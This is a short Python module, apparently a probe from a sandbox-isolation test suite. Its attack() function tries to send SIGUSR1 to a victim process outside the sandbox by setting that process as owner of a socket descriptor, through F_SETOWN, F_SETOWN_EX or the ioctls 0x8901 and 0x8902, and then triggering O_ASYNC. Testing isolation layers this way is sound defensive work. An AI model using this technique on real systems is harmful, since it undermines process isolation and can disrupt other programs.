"""A signal by way of a descriptor whose owner is another process: F_SETOWN, F_SETSIG and O_ASYNC, or their ioctls.

layer: namespaces
restricted_layer: seccomp
walls_off: true
"""
import fcntl
import os
import signal
import socket
import struct

import intel
from tools import attempt, first

SET_SIGNAL, SET_OWNER_EX = 10, 15


def own(set_owner):
    ours, theirs = socket.socketpair()
    set_owner(ours.fileno())
    fcntl.fcntl(ours, SET_SIGNAL, int(signal.SIGUSR1))
    fcntl.fcntl(ours, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
    theirs.send(b"x")
    return "the signal was sent"


def attack():
    pid = intel.VICTIM
    return first(
        attempt(own, lambda fd: fcntl.fcntl(fd, fcntl.F_SETOWN, pid)),
        attempt(own, lambda fd: fcntl.fcntl(fd, SET_OWNER_EX, struct.pack("ii", 1, pid))),
        attempt(own, lambda fd: fcntl.ioctl(fd, 0x8901, struct.pack("i", pid))),
        attempt(own, lambda fd: fcntl.ioctl(fd, 0x8902, struct.pack("i", pid))),
    )
